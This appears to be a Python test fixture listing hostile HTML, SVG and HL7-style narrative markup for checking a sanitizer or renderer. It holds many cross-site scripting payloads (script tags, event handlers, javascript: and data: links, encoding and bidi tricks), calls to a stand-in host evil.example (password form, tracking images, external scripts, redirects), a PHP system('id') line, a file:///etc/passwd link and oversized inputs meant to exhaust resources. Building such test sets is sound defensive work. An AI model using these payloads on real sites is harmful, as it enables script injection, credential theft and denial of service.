# ruff: noqa: E501  a payload is easier to judge on one line
"""Narratives that somebody wrote to act on whoever reads them; each names what it tries."""

from typing import Final

XHTML: Final = 'xmlns:x="http://www.w3.org/1999/xhtml"'
SVG: Final = 'xmlns:s="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink"'
EVIL: Final = "http://evil.example"
OUT: Final = f"&quot;&gt;&lt;img src=&quot;{EVIL}&quot; onerror=&quot;alert(1)&quot;&gt;"

SCRIPTS: Final = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script of HTML": f"<x:script {XHTML}>alert(1)</x:script>",
    "script of SVG": f"<s:svg {SVG}><s:script>alert(1)</s:script></s:svg>",
    "script under a prefix of ours": '<h:script xmlns:h="urn:hl7-org:v3">alert(1)</h:script>',
    "script in a cell": "<table><tr><td>a</td><td><script>alert(1)</script></td></tr></table>",
    "script between rows": "<table><script>alert(1)</script><tr><script>alert(1)</script><td>a</td><td/></tr></table>",
    "script in a caption": "<table><caption><script>alert(1)</script>a</caption><tr><td>a</td><td>b</td></tr></table>",
    "script in a list": "<list><caption><script>alert(1)</script></caption><item>a<script>alert(1)</script></item></list>",
    "script from elsewhere": f'<script src="{EVIL}/x.js"/>',
    "script in a note": "a<footnote><script>alert(1)</script>b</footnote>",
}
HANDLERS: Final = {
    "handler on words": '<content onclick="alert(1)" onmouseover="alert(1)">a</content>',
    "handler on a paragraph": '<paragraph onpointerenter="alert(1)">a</paragraph>',
    "handler on a table": '<table onload="alert(1)"><tr onclick="alert(1)"><td onfocus="alert(1)">a</td><td/></tr></table>',
    "handler on a break": 'a<br onclick="alert(1)"/>b',
    "handler on an image": f'<x:img {XHTML} src="{EVIL}/x.png" onerror="alert(1)"/>',
    "handler on a drawing": f'<s:svg {SVG} onload="alert(1)"><s:circle r="9"/></s:svg>',
    "handler on a field": f'<x:input {XHTML} autofocus="" onfocus="alert(1)"/>',
    "handler on details": f'<x:details {XHTML} open="" ontoggle="alert(1)">a</x:details>',
    "handler on a film": f'<x:video {XHTML}><x:source onerror="alert(1)"/></x:video>',
    "handler on a title": '<linkHtml href="#a" onclick="alert(1)">a</linkHtml><content ID="a">b</content>',
    "handler on a list": '<list styleCode="Arabic" onclick="alert(1)"><item onclick="alert(1)">a</item></list>',
    "handler on a missing image": '<renderMultiMedia referencedObject="x" onerror="alert(1)"/>',
}
LINKS: Final = {
    "javascript": '<linkHtml href="javascript:alert(1)">a</linkHtml>',
    "javascript in capitals": '<linkHtml href="JaVaScRiPt:alert(1)">a</linkHtml>',
    "javascript with a tab inside": '<linkHtml href="java&#9;script:alert(1)">a</linkHtml>',
    "javascript on two lines": '<linkHtml href="java&#10;script&#13;:alert(1)">a</linkHtml>',
    "javascript after a space": '<linkHtml href=" &#160;javascript:alert(1)">a</linkHtml>',
    "javascript after a mark": '<linkHtml href="&#xFEFF;javascript:alert(1)">a</linkHtml>',
    "javascript with another letter": '<linkHtml href="jаvascript:alert(1)">a</linkHtml>',
    "javascript of HTML": f'<x:a {XHTML} href="javascript:alert(1)">a</x:a>',
    "javascript of SVG": f'<s:svg {SVG}><s:a l:href="javascript:alert(1)"><s:text>a</s:text></s:a></s:svg>',
    "javascript as a name of ours": '<a href="javascript:alert(1)">a</a>',
    "javascript as an image": '<renderMultiMedia referencedObject="javascript:alert(1)"/>',
    "vbscript": '<linkHtml href="vbscript:msgbox(1)">a</linkHtml>',
    "a page in an address": '<linkHtml href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">a</linkHtml>',
    "a page in base64": '<linkHtml href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</linkHtml>',
    "blob": '<linkHtml href="blob:null/1">a</linkHtml>',
    "file": '<linkHtml href="file:///etc/passwd">a</linkHtml>',
    "without a scheme": '<linkHtml href="//evil.example/x">a</linkHtml>',
    "out of an anchor": f'<linkHtml href="#{OUT}">a</linkHtml>',
    "an anchor with a script": '<linkHtml href="#javascript:alert(1)">a</linkHtml><content ID="javascript:alert(1)">b</content>',
    "a link in a link": '<linkHtml href="#a"><linkHtml href="#a">a</linkHtml></linkHtml><content ID="a">b</content>',
}
FRAMES: Final = {
    "frame": f'<x:iframe {XHTML} src="{EVIL}"/>',
    "frame of a script": f'<x:iframe {XHTML} src="javascript:alert(1)"/>',
    "frame of a page": f'<x:iframe {XHTML} srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
    "frame as a name of ours": f'<iframe src="{EVIL}">a</iframe>',
    "object": f'<x:object {XHTML} data="{EVIL}/x.swf"><x:param name="movie" value="{EVIL}"/></x:object>',
    "embed": f'<x:embed {XHTML} src="{EVIL}/x.swf"/>',
    "form": f'<x:form {XHTML} action="{EVIL}"><x:input name="mot-de-passe"/><x:button formaction="{EVIL}">a</x:button></x:form>',
    "base": f'<x:base {XHTML} href="{EVIL}/"/>',
    "redirection": f'<x:meta {XHTML} http-equiv="refresh" content="0;url={EVIL}"/>',
    "portal": f'<x:portal {XHTML} src="{EVIL}"/>',
    "image from elsewhere": f'<x:img {XHTML} src="{EVIL}/spy.gif"/>',
    "picture": f'<x:picture {XHTML}><x:source srcset="{EVIL}/spy.gif"/></x:picture>',
}
STYLES: Final = {
    "style": f"<style>@import url({EVIL}/x.css); * {{ display: none }}</style>",
    "style of HTML": f"<x:style {XHTML}>body {{ background: url({EVIL}) }}</x:style>",
    "style on words": f'<content style="background: url({EVIL})">a</content>',
    "style over the page": '<paragraph style="position: fixed; inset: 0; z-index: 9">Votre session a expiré</paragraph>',
    "style sheet": f'<x:link {XHTML} rel="stylesheet" href="{EVIL}/x.css"/>',
    "class of the page": '<content class="avis avis--urgence" styleCode="avis">a</content>',
    "background of a table": f'<table background="{EVIL}/spy.gif"><tr><td background="{EVIL}">a</td><td/></tr></table>',
    "style code that breaks out": f'<content styleCode="Bold{OUT}">a</content>',
    "list style that breaks out": f'<list listType="ordered" styleCode="{OUT}"><item>a</item></list>',
}
NAMES: Final = {
    "name that breaks out": f'<content ID="{OUT}">a</content><linkHtml href="#{OUT}">b</linkHtml>',
    "name of the page's own": '<linkHtml href="#contenu">a</linkHtml><content ID="contenu">b</content>',
    "name of a form field": '<linkHtml href="#csrfmiddlewaretoken">a</linkHtml><content ID="csrfmiddlewaretoken">b</content>',
    "span that breaks out": f'<table><tr><td colspan="2{OUT}">a</td><td rowspan="{OUT}">b</td></tr></table>',
    "note that breaks out": f'a<footnote ID="{OUT}">b</footnote><footnoteRef IDREF="{OUT}"/>',
    "object that breaks out": f'<renderMultiMedia referencedObject="{OUT}"/>',
    "attributes of XML": f'<content xml:id="a" xml:base="{EVIL}" xml:lang="{OUT}" xml:space="preserve">a</content>',
}
LETTERS: Final = {
    "tag in letters": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "tag in numbers": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "tag twice escaped": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "tag in a section of data": "<![CDATA[<script>alert(1)</script><img src=x onerror=alert(1)>]]>",
    "end of a section of data": "<![CDATA[]]]]><![CDATA[><script>alert(1)</script>]]>",
    "comment for old readers": "a<!--[if IE]><script>alert(1)</script><![endif]-->b",
    "instruction": '<?php system("id") ?><?xml-stylesheet href="http://evil.example/x.xsl"?>a',
    "wide letters": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "letters of seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "letters turned around": "ordonnance\u202efdp.exe\u2066 1 mg 01\u2069",
    "marks of nothing": "java\u200bscript\u2028alert(1)\u2029\ufeff\ufff9",
    "letters beyond the first plane": "\U000e0001\U000e0073\U0001f600\U0010fffd",
    "words of an attribute": "\" onmouseover=\"alert(1)\" ' onclick='alert(1)' `",
    "end of a tag of text": f"<x:textarea {XHTML}>&lt;/textarea&gt;&lt;script&gt;alert(1)&lt;/script&gt;</x:textarea>",
    "end of a style": f"<x:noscript {XHTML}>&lt;/noscript&gt;&lt;img src=x onerror=alert(1)&gt;</x:noscript>",
    "plain text without end": f"<x:plaintext {XHTML}>a</x:plaintext><x:xmp {XHTML}>&lt;/xmp&gt;&lt;b&gt;</x:xmp>",
    "formula": (
        '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:maction actiontype="statusline" href="javascript:alert(1)">'
        "<m:mtext>a</m:mtext></m:maction></m:math>"
    ),
    "template": f"<x:template {XHTML}><x:script>alert(1)</x:script></x:template>",
    "empty namespace": '<script xmlns="">alert(1)</script><b xmlns="" onclick="alert(1)">a</b>',
}
GIANTS: Final = {
    "table of a hundred thousand cells": "<table>" + ("<tr>" + "<td>a</td>" * 40 + "</tr>") * 2_500 + "</table>",
    "row of fifty thousand cells": "<table><tr>" + "<td>a</td>" * 50_000 + "</tr></table>",
    "spans of a billion": '<table><tr><td colspan="1000000000" rowspan="1000000000">a</td><td/></tr></table>' * 50,
    "spans that pile up": "<table>" + '<tr><td rowspan="60" colspan="60">a</td></tr>' * 2_000 + "</table>",
    "tables within tables": "<table><tr><td>b</td><td>" * 60 + "a" + "</td></tr></table>" * 60,
    "lists within lists": "<list><item>" * 90 + "a" + "</item></list>" * 90,
    "words within words": '<content styleCode="Bold Italics Underline Emphasis">' * 200 + "a" + "</content>" * 200,
    "three million letters": "a" * 3_000_000,
    "word without end": "<table><thead><tr><th>"
    + "a" * 100_000
    + "</th><th>b</th></tr></thead><tr><td>c</td><td>d</td></tr></table>",
    "twenty thousand notes": "a<footnote>b</footnote>" * 20_000,
    "twenty thousand links": '<linkHtml href="#a">a</linkHtml>' * 20_000 + '<content ID="a">b</content>' * 2,
    "one image shown ten thousand times": '<renderMultiMedia referencedObject="x x x"/>' * 10_000,
    "fifty thousand empty paragraphs": "<paragraph/>" * 50_000,
    "sixty thousand breaks": "<br/>" * 60_000,
}
NARRATIVES: Final = {**SCRIPTS, **HANDLERS, **LINKS, **FRAMES, **STYLES, **NAMES, **LETTERS, **GIANTS}
